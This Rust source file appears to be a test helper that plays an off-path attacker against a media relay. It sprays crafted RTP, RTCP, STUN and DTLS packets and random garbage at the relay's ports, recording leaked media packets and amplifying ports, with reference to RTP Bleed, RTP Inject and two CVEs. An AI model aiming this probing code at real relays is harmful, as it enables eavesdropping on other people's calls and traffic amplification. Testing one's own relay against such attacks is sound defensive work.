//! Somebody on the network who is no party of a call and knows nothing but which ports a relay may use: sprays RTP, RTCP, STUN, DTLS and
//! garbage at all of them, and notes what comes back (RTP Bleed, RTP Inject, CVE-2025-53399; CVE-2023-51275).

use std::collections::BTreeMap;
use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::sync::atomic::{AtomicBool, Ordering::Relaxed};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::Duration;

use serde_json::Value;

/// What the attacker's payloads consist of, and its SSRCs.
pub const MARK: u8 = 0x66;
/// Between two rounds: a relay that is not scheduled for half a second still finds the packets of the parties in its sockets.
const ROUND: Duration = Duration::from_millis(10);

/// What came of it.
#[derive(Debug, Default)]
pub struct Loot {
    /// Packets that came back and look like RTP or RTCP.
    pub media: Vec<Vec<u8>>,
    /// By source and target: octets sent and octets received.
    pub octets: BTreeMap<(SocketAddr, SocketAddr), (usize, usize)>,
    /// Datagrams sent.
    pub sent: usize,
}

impl Loot {
    /// Targets from which more came back than was sent there.
    pub fn amplifiers(&self) -> Vec<SocketAddr> {
        let amplified = self.octets.iter().filter(|(_, (sent, received))| received > sent);
        amplified.map(|((_, target), _)| *target).collect()
    }
}

/// A spraying thread.
#[derive(Debug)]
pub struct Attacker {
    targets: Arc<Mutex<Vec<SocketAddr>>>,
    stop: Arc<AtomicBool>,
    thread: JoinHandle<Loot>,
}

impl Attacker {
    /// Begins, from this address; there is nothing to hit yet.
    pub fn start(address: &str) -> Self {
        let address: IpAddr = address.parse().expect("an IP address");
        let targets = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (hit, stopped) = (Arc::clone(&targets), Arc::clone(&stop));
        let thread = std::thread::spawn(move || spray(address, &hit, &stopped));
        Self { targets, stop, thread }
    }

    /// Goes for all local ports that `query` shows.
    pub fn aim(&self, query: &Value) {
        let mut ports = Vec::new();
        local_ports(query, &mut ports);
        assert!(!ports.is_empty(), "no ports in {query}");
        *self.targets.lock().expect("not poisoned") = ports;
    }

    /// Ends it.
    pub fn stop(self) -> Loot {
        self.stop.store(true, Relaxed);
        self.thread.join().expect("the attacker")
    }
}

/// Addresses of all streams in what `query` says.
fn local_ports(value: &Value, found: &mut Vec<SocketAddr>) {
    match value {
        Value::Object(map) => {
            let port =
                map.get("local port").and_then(Value::as_u64).and_then(|port| u16::try_from(port).ok());
            let address = map.get("local address").and_then(Value::as_str).and_then(|text| text.parse().ok());
            if let (Some(port), Some(address)) = (port.filter(|port| *port != 0), address) {
                found.push(SocketAddr::new(address, port));
            }
            map.values().for_each(|value| local_ports(value, found));
        }
        Value::Array(list) => list.iter().for_each(|value| local_ports(value, found)),
        _ => {}
    }
}

fn spray(address: IpAddr, targets: &Mutex<Vec<SocketAddr>>, stop: &AtomicBool) -> Loot {
    // A source for each kind, so that none spoils what another one could win.
    let sources: Vec<UdpSocket> = (0..5).map(|_| UdpSocket::bind((address, 0)).expect("a port")).collect();
    let mut loot = Loot::default();
    for round in 0_u16.. {
        if stop.load(Relaxed) {
            break;
        }
        let targets = targets.lock().expect("not poisoned").clone();
        for (source, datagram) in sources.iter().zip(datagrams(round)) {
            let from = source.local_addr().expect("bound");
            for to in &targets {
                if source.send_to(&datagram, to).is_ok() {
                    loot.octets.entry((from, *to)).or_default().0 += datagram.len();
                    loot.sent += 1;
                }
            }
        }
        std::thread::sleep(ROUND);
        for source in &sources {
            source.set_nonblocking(true).expect("a flag");
            let from = source.local_addr().expect("bound");
            let mut buffer = [0; 2048];
            while let Ok((length, to)) = source.recv_from(&mut buffer) {
                loot.octets.entry((from, to)).or_default().1 += length;
                if buffer[0] >= 128 {
                    loot.media.push(buffer[..length].to_vec());
                }
            }
        }
    }
    loot
}

/// What each of the sources sends in a round: a steady RTP stream, RTP with ever other sources, RTCP, STUN or DTLS, garbage.
fn datagrams(round: u16) -> [Vec<u8>; 5] {
    let steady = rtp(round, [MARK; 4]);
    let changing = rtp(rand::random(), [MARK, MARK, rand::random(), rand::random()]);
    let mut report = vec![0x80, 200, 0, 6];
    report.extend([MARK; 24]);
    let handshake = if round.is_multiple_of(2) { client_hello() } else { binding_request() };
    let garbage: [u8; 100] = rand::random();
    [steady, changing, report, handshake, garbage.to_vec()]
}

fn rtp(sequence: u16, ssrc: [u8; 4]) -> Vec<u8> {
    let mut packet = vec![0x80, 0];
    packet.extend(sequence.to_be_bytes());
    packet.extend((u32::from(sequence) * 160).to_be_bytes());
    packet.extend(ssrc);
    packet.extend([MARK; 160]);
    packet
}

/// A ClientHello without a cookie. Well-formed, with what a party offers (RFC 6347 §4.2.1, RFC 5764 §4.1).
pub fn client_hello() -> Vec<u8> {
    let random: [u8; 32] = rand::random();
    let mut body = vec![0xfe, 0xfd];
    body.extend(random);
    // No session, no cookie, two cipher suites, no compression.
    body.extend([0, 0, 0, 4, 0xc0, 0x2b, 0xc0, 0x2f, 1, 0]);
    let extensions: &[&[u8]] = &[
        &[0, 14, 0, 5, 0, 2, 0, 1, 0],
        &[0, 10, 0, 4, 0, 2, 0, 23],
        &[0, 13, 0, 6, 0, 4, 4, 3, 4, 1],
        &[0, 11, 0, 2, 1, 0],
    ];
    let extensions = extensions.concat();
    body.extend((extensions.len() as u16).to_be_bytes());
    body.extend(extensions);
    let length = (body.len() as u32).to_be_bytes();
    let mut handshake = vec![1];
    handshake.extend(&length[1..]);
    handshake.extend([0, 0, 0, 0, 0]);
    handshake.extend(&length[1..]);
    handshake.extend(body);
    let mut record = vec![22, 0xfe, 0xfd, 0, 0, 0, 0, 0, 0, 0, 0];
    record.extend((handshake.len() as u16).to_be_bytes());
    record.extend(handshake);
    record
}

/// A connectivity check with a name and a tag that are nobody's.
pub fn binding_request() -> Vec<u8> {
    let transaction: [u8; 12] = rand::random();
    let tag: [u8; 20] = rand::random();
    let mut message = vec![0, 1, 0, 36, 0x21, 0x12, 0xa4, 0x42];
    message.extend(transaction);
    message.extend([0, 6, 0, 8]);
    message.extend(b"abcd:efg");
    message.extend([0, 8, 0, 20]);
    message.extend(tag);
    message
}
